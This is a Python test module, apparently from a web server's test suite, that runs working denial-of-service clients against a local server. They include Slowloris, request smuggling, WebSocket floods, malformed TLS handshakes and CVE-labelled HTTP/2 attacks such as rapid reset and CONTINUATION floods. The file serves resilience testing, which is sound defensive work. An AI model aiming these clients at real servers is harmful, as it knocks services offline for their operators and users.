"""All bad clients that a good one must not notice, each with what it does to the server.

    python -m tests.serve.bad_clients PORT [--tls]

lets all of them loose until standard input ends: each at once, and again as soon as it was thrown out.
"""

import contextlib
import hashlib
import os
import random
import socket
import ssl
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from tests.engine.http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    block,
    frame,
    pseudo,
)

HEAD = b"GET / HTTP/1.1\r\nHost: test\r\n"
POST = b"POST /echo HTTP/1.1\r\nHost: test\r\n"
MANY = 5000
PATIENCE = 40.0
"""Longer than any timeout of the server: it is the one that ends a connection."""


@dataclass
class Door:
    """Where the server is, and how long a client may take."""

    port: int
    tls: bool = False
    patience: float = PATIENCE

    @contextlib.contextmanager
    def open(self, protocol: str = "http/1.1", buffer: int = 0) -> Iterator[socket.socket]:
        with self.open_plain(buffer) as plain:
            if not self.tls:
                yield plain
                return
            context = ssl.create_default_context()
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            context.set_alpn_protocols([protocol])
            with context.wrap_socket(plain, server_hostname="localhost") as wrapped:
                yield wrapped

    @contextlib.contextmanager
    def open_plain(self, buffer: int = 0) -> Iterator[socket.socket]:
        with socket.socket() as client:
            client.settimeout(self.patience)
            if buffer:
                client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer)
            client.connect(("127.0.0.1", self.port))
            yield client


Attack = Callable[[Door], None]
CLIENTS: dict[str, Attack] = {}
TLS_CLIENTS: dict[str, Attack] = {}


def bad(attack: Attack) -> Attack:
    CLIENTS[attack.__name__.replace("_", " ")] = attack
    return attack


def bad_at_tls(attack: Attack) -> Attack:
    TLS_CLIENTS[attack.__name__.replace("_", " ")] = attack
    return attack


def let_loose(attack: Attack, door: Door) -> None:
    """Once, to its end. Being thrown out, in whatever way, is what it expects."""
    with contextlib.suppress(OSError):
        attack(door)


def until_thrown_out(client: socket.socket) -> None:
    """Takes what comes."""
    while client.recv(1 << 16):
        pass


def drip(door: Door, client: socket.socket, piece: bytes) -> None:
    """Also when it has long been told to leave."""
    end = time.monotonic() + door.patience + 0.5
    while time.monotonic() < end:
        client.sendall(piece)
        time.sleep(0.1)


# -- HTTP/1.1 ----------------------------------------------------------------------------------------------------------


@bad
def silent(door: Door) -> None:
    """Connects and says nothing."""
    with door.open() as client:
        until_thrown_out(client)


@bad
def slow_head(door: Door) -> None:
    """Slowloris: a header line every 100 ms, never the last one."""
    with door.open() as client:
        client.sendall(HEAD)
        drip(door, client, b"X-A: b\r\n")


@bad
def slow_body(door: Door) -> None:
    """A byte of the body every 100 ms."""
    with door.open() as client:
        client.sendall(POST + b"Content-Length: 1000000\r\n\r\n")
        drip(door, client, b"x")


@bad
def slow_chunks(door: Door) -> None:
    """Chunks of one byte, one every 100 ms."""
    with door.open() as client:
        client.sendall(POST + b"Transfer-Encoding: chunked\r\n\r\n")
        drip(door, client, b"1\r\nx\r\n")


@bad
def tiny_chunks(door: Door) -> None:
    """Two megabytes of them, with an extension each."""
    with door.open() as client:
        client.sendall(POST + b"Transfer-Encoding: chunked\r\n\r\n" + b"1;a=b\r\nx\r\n" * 20_000 + b"0\r\n\r\n")
        until_thrown_out(client)


@bad
def zero_window(door: Door) -> None:
    """Asks for megabytes and reads none of them."""
    with door.open(buffer=4096) as client:
        client.sendall(b"GET /megabytes HTTP/1.1\r\nHost: test\r\n\r\n")
        time.sleep(door.patience)


@bad
def slow_reader(door: Door) -> None:
    """Takes a kilobyte of megabytes every 100 ms."""
    with door.open(buffer=4096) as client:
        client.sendall(b"GET /megabytes HTTP/1.1\r\nHost: test\r\n\r\n")
        end = time.monotonic() + door.patience
        while time.monotonic() < end and client.recv(1024):
            time.sleep(0.1)


@bad
def half_closed_after_the_request(door: Door) -> None:
    """Says that nothing follows, and wants its answer."""
    with door.open() as client:
        client.sendall(HEAD + b"\r\n")
        client.shutdown(socket.SHUT_WR)
        until_thrown_out(client)


@bad
def half_closed_within_the_head(door: Door) -> None:
    """Says that nothing follows, in the middle of a line."""
    with door.open() as client:
        client.sendall(HEAD + b"X-A")
        client.shutdown(socket.SHUT_WR)
        until_thrown_out(client)


@bad
def reset_within_the_body(door: Door) -> None:
    """Half of a body, then a reset."""
    with door.open() as client:
        client.sendall(POST + b"Content-Length: 200000\r\n\r\n" + bytes(100_000))
        reset(client)


@bad
def reset_within_the_answer(door: Door) -> None:
    """The first bytes of megabytes, then a reset."""
    with door.open() as client:
        client.sendall(b"GET /megabytes HTTP/1.1\r\nHost: test\r\n\r\n")
        client.recv(1024)
        reset(client)


def reset(client: socket.socket) -> None:
    client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")


@bad
def oversized_target(door: Door) -> None:
    """A target of a megabyte."""
    with door.open() as client:
        client.sendall(b"GET /" + b"a" * (1 << 20) + b" HTTP/1.1\r\n")
        until_thrown_out(client)


@bad
def oversized_header(door: Door) -> None:
    """A header of a megabyte."""
    with door.open() as client:
        client.sendall(HEAD + b"X-A: " + b"a" * (1 << 20))
        until_thrown_out(client)


@bad
def too_many_headers(door: Door) -> None:
    """Ten thousand."""
    with door.open() as client:
        client.sendall(HEAD + b"X-A: b\r\n" * 10_000 + b"\r\n")
        until_thrown_out(client)


@bad
def oversized_body(door: Door) -> None:
    """Announces a terabyte and begins to send it."""
    with door.open() as client:
        client.sendall(POST + b"Content-Length: 1000000000000\r\n\r\n")
        client.sendall(bytes(4 << 20))
        until_thrown_out(client)


@bad
def oversized_chunks(door: Door) -> None:
    """As much as is let in, of no announced length."""
    with door.open() as client:
        client.sendall(POST + b"Transfer-Encoding: chunked\r\n\r\n")
        for _ in range(64):
            client.sendall(b"100000\r\n" + bytes(1 << 20) + b"\r\n")


@bad
def garbage(door: Door) -> None:
    """Random bytes."""
    with door.open() as client:
        client.sendall(random.Random(1).randbytes(1 << 16))
        until_thrown_out(client)


@bad
def smuggled(door: Door) -> None:
    """A request with two ends."""
    with door.open() as client:
        client.sendall(POST + b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + HEAD + b"\r\n")
        until_thrown_out(client)


@bad
def pipelined(door: Door) -> None:
    """Thousands of requests, and reads no answer."""
    with door.open(buffer=4096) as client:
        client.sendall((HEAD + b"\r\n") * MANY)
        time.sleep(door.patience)


@bad
def expects_and_waits(door: Door) -> None:
    """Has the server say 100 Continue, and then sends nothing."""
    with door.open() as client:
        client.sendall(POST + b"Content-Length: 10\r\nExpect: 100-continue\r\n\r\n")
        until_thrown_out(client)


@bad
def comes_and_goes(door: Door) -> None:
    """A hundred connections that say nothing."""
    for _ in range(100):
        with door.open_plain():
            pass


# -- WebSocket ---------------------------------------------------------------------------------------------------------

HANDSHAKE = HEAD + (
    b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
    b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
)


def masked(first: int, payload: bytes = b"", size: int | None = None) -> bytes:
    """A frame with the mask 0; `size` may promise more than there is."""
    size = len(payload) if size is None else size
    length = bytes([0x80 | size]) if size < 126 else bytes([0xFF]) + size.to_bytes(8, "big")
    return bytes([first]) + length + bytes(4) + payload


@contextlib.contextmanager
def websocket(door: Door, buffer: int = 0) -> Iterator[socket.socket]:
    with door.open(buffer=buffer) as client:
        client.sendall(HANDSHAKE)
        client.recv(4096)
        yield client


@bad
def websocket_ping_flood(door: Door) -> None:
    """Pings, and reads no pong."""
    with websocket(door, buffer=4096) as client:
        for _ in range(100):
            client.sendall(masked(0x89, b"12345678") * 1000)


@bad
def websocket_half_frame(door: Door) -> None:
    """A frame of ten megabytes, of which little comes."""
    with websocket(door) as client:
        client.sendall(masked(0x82, bytes(100), size=10_000_000))
        until_thrown_out(client)


@bad
def websocket_fragments(door: Door) -> None:
    """A message of fragments that hold nothing."""
    with websocket(door) as client:
        client.sendall(masked(0x02))
        for _ in range(20):
            client.sendall(masked(0x00) * 1000)
        until_thrown_out(client)


@bad
def websocket_deaf(door: Door) -> None:
    """Has its messages echoed, and reads none."""
    with websocket(door, buffer=4096) as client:
        for _ in range(200):
            client.sendall(masked(0x82, bytes(65536)))


@bad
def websocket_oversized(door: Door) -> None:
    """A message beyond every limit."""
    with websocket(door) as client:
        client.sendall(masked(0x82, bytes(1000), size=1 << 62))
        until_thrown_out(client)


# -- HTTP/2 ------------------------------------------------------------------------------------------------------------

H2_GET = block(pseudo())
H2_POST = block(pseudo("/echo", "POST"))
H2_MEGABYTE = block(pseudo("/megabyte"))


def http2(door: Door, frames: bytes, settings: bytes = b"", stays: bool = False, buffer: int = 0) -> None:
    """Sends them, then takes what comes, or takes nothing."""
    with door.open("h2", buffer) as client:
        client.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
        client.sendall(frames)
        if stays:
            time.sleep(door.patience)
        until_thrown_out(client)


def each(count: int, make: Callable[[int], bytes]) -> bytes:
    return b"".join(make(2 * index + 1) for index in range(count))


@bad
def h2_rapid_reset(door: Door) -> None:
    """CVE-2023-44487: begins streams and resets them."""
    cancel = (8).to_bytes(4, "big")
    http2(
        door,
        each(
            MANY,
            lambda s: frame(HEADERS, END_HEADERS | END_STREAM, s, H2_GET) + frame(RST_STREAM, 0, s, cancel),
        ),
    )


@bad
def h2_made_you_reset(door: Door) -> None:
    """CVE-2025-8671: has the server reset its streams."""
    too_much = b"\x7f\xff\xff\xff"
    http2(door, each(MANY, lambda s: frame(HEADERS, END_HEADERS, s, H2_POST) + frame(WINDOW_UPDATE, 0, s, too_much)))


@bad
def h2_continuation_flood(door: Door) -> None:
    """CVE-2024-27316: a head without end."""
    http2(door, frame(HEADERS, 0, 1, H2_GET) + frame(CONTINUATION, 0, 1, block([("x-a", "b" * 100)])) * MANY)


@bad
def h2_ping_flood(door: Door) -> None:
    """CVE-2019-9512: pings, and reads no answer."""
    http2(door, frame(PING, 0, 0, b"12345678") * MANY * 4, buffer=4096)


@bad
def h2_settings_flood(door: Door) -> None:
    """CVE-2019-9515."""
    http2(door, frame(SETTINGS, 0, 0) * MANY * 4)


@bad
def h2_empty_frames(door: Door) -> None:
    """CVE-2019-9518: data without data."""
    http2(door, frame(HEADERS, END_HEADERS, 1, H2_POST) + frame(DATA, 0, 1) * MANY * 4)


@bad
def h2_priority_flood(door: Door) -> None:
    """CVE-2019-9513."""
    http2(door, frame(HEADERS, END_HEADERS, 1, H2_POST) + frame(PRIORITY, 0, 1, bytes(5)) * MANY * 4)


@bad
def h2_window_dribble(door: Door) -> None:
    """CVE-2019-9511: a megabyte, a byte of window at a time."""
    one = (1).to_bytes(4, "big")
    http2(
        door,
        frame(HEADERS, END_HEADERS | END_STREAM, 1, H2_MEGABYTE) + frame(WINDOW_UPDATE, 0, 1, one) * MANY * 4,
        settings=b"\0\4" + one,
    )


@bad
def h2_zero_window(door: Door) -> None:
    """CVE-2019-9517: a hundred times a megabyte, and no window for any of them."""
    streams = each(100, lambda s: frame(HEADERS, END_HEADERS | END_STREAM, s, H2_MEGABYTE))
    http2(door, streams, settings=b"\0\4" + bytes(4), stays=True)


@bad
def h2_slow_bodies(door: Door) -> None:
    """A hundred uploads that do not come."""
    http2(door, each(100, lambda s: frame(HEADERS, END_HEADERS, s, H2_POST) + frame(DATA, 0, s, b"x")), stays=True)


@bad
def h2_header_bomb(door: Door) -> None:
    """CVE-2016-1544: a large field that is sent once and named thousands of times."""
    large = b"\x40\x03x-a\x7f\x81\x1e" + b"b" * 4000  # with indexing; its length in 7 bits and more (RFC 7541, 5.1)
    named = b"\xbe" * 16_000
    frames = each(
        100, lambda s: frame(HEADERS, END_HEADERS | END_STREAM, s, H2_GET + (large if s == 1 else b"") + named)
    )
    http2(door, frames)


@bad
def h2_too_many_streams(door: Door) -> None:
    """Begins thousands at once."""
    http2(door, each(MANY, lambda s: frame(HEADERS, END_HEADERS, s, H2_POST)))


# -- TLS ---------------------------------------------------------------------------------------------------------------


def client_hello(door: Door) -> bytes:
    """As Python's ssl begins."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    session = context.wrap_bio(incoming, outgoing, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        session.do_handshake()
    return outgoing.read()


@bad_at_tls
def tls_garbage_after_the_hello(door: Door) -> None:
    """Agrees on nothing."""
    with door.open_plain() as client:
        client.sendall(client_hello(door) + hashlib.sha256(b"1").digest() * 1000)
        until_thrown_out(client)


@bad_at_tls
def tls_half_hello(door: Door) -> None:
    """Never says the rest."""
    with door.open_plain() as client:
        client.sendall(client_hello(door)[:100])
        until_thrown_out(client)


@bad_at_tls
def tls_silent_after_the_hello(door: Door) -> None:
    """Takes the certificate and is not heard of again."""
    with door.open_plain() as client:
        client.sendall(client_hello(door))
        until_thrown_out(client)


@bad_at_tls
def tls_plain_http(door: Door) -> None:
    """Has missed that TLS is spoken here."""
    with door.open_plain() as client:
        client.sendall(HEAD + b"\r\n")
        until_thrown_out(client)


@bad_at_tls
def tls_handshakes(door: Door) -> None:
    """One after the other, since they cost the server more than the client."""
    for _ in range(5):
        with door.open():
            pass
        time.sleep(0.2)


def known(tls: bool) -> dict[str, Attack]:
    return CLIENTS | (TLS_CLIENTS if tls else {})


PAUSE = 0.25
"""Until one that was thrown out is back."""


def again_and_again(attack: Attack, door: Door) -> None:
    while True:
        let_loose(attack, door)
        time.sleep(PAUSE)


def main() -> None:
    door = Door(int(sys.argv[1]), tls="--tls" in sys.argv)
    for attack in known(door.tls).values():
        threading.Thread(target=again_and_again, args=(attack, door), daemon=True).start()
    sys.stdin.read()
    os._exit(0)


if __name__ == "__main__":
    main()
